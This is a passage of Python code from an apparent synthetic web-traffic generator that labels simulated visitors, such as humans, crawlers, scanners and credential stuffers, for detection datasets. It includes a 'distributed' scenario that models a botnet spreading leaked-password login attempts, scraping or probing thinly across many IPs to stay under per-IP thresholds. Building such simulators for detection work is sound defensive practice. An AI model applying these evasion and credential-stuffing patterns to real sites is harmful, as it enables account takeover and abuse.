    every per-minute threshold."""
    site = actor.site
    ua = rng.choice(BROWSER_UAS)
    uid = actor.new_account() if rng.random() < 0.5 else None
    span = (hours or rng.uniform(3.0, 8.0)) * 3600.0
    t = actor.pick_start(rng, span)
    stop = t + span
    next_id = rng.randint(1, 50)
    path = "/"
    while t < stop:
        r = rng.random()
        query = ""
        if r < 0.3:
            target = rng.choice(PROBE_PATHS)
        elif r < 0.6:
            target = f"/api/users/{next_id}/"
            next_id += 1
        elif r < 0.68:
            _, target, query, _, _ = _payload_query(rng, site)
        else:
            path, query = site.next_page(rng, path)
            target = path
        yield actor.request(rng, t, "GET", target, ua, query=query, user_id=uid)
        t += rng.uniform(*interval)


def distributed(rng: random.Random, actor: Actor, *, ips: int | None = None, per_ip: tuple[int, int] = (1, 6),
                hours: float | None = None, mode: str | None = None) -> Iterator[TrafficRecord]:
    """One operator behind many addresses (a botnet, rotating proxies): each
    address sends only a handful of requests, so no per-IP window sees much.
    ``mode`` is ``login`` (stuffing), ``scrape`` or ``probe``."""
    site = actor.site
    addresses = [actor.ip] + actor.more_ips((ips or rng.randint(40, 160)) - 1)
    mode = mode or rng.choice(("login", "scrape", "probe"))
    span = (hours or rng.uniform(2.0, 8.0)) * 3600.0
    t0 = actor.pick_start(rng, span)
    out: list[TrafficRecord] = []
    for ip in addresses:
        ua = rng.choice(BROWSER_UAS)
        t = t0 + rng.uniform(0.0, span * 0.9)
        for _ in range(rng.randint(*per_ip)):
            if mode == "login":
                body = _form(rng, {"username": _email(rng), "password": rng.choice(_LEAKED_PASSWORDS)})
                rec = actor.request(rng, t, "POST", site.login_path, ua, body=body, content_type=FORM_TYPE,
                                    referer=site.url(site.login_path), ip=ip)
            elif mode == "scrape":
                rec = actor.request(rng, t, "GET", f"/products/{rng.randint(1, site.n_products)}/", ua, ip=ip)
            else:
                method, path, query, body, ctype = _probe(rng, site)
                rec = actor.request(rng, t, method, path, ua, query=query, body=body, content_type=ctype, ip=ip)
            out.append(rec)
            t += rng.uniform(15.0, 240.0)
    out.sort(key=lambda r: r.ts)
    yield from out


#: Every scenario by label.  ``generate(scenarios={label: count})`` uses these.
SCENARIOS: dict[str, Scenario] = {
    "human": human,
    "api_client": api_client,
    "crawler": crawler,
    "scraper": scraper,
    "burst": burst,
    "credential_stuffing": credential_stuffing,
    "enumeration": enumeration,
    "vuln_scanner": vuln_scanner,
    "slow_drip": slow_drip,
    "distributed": distributed,
}
#: Labels of traffic a site does not want.
HOSTILE_LABELS = frozenset(SCENARIOS) - BENIGN_LABELS
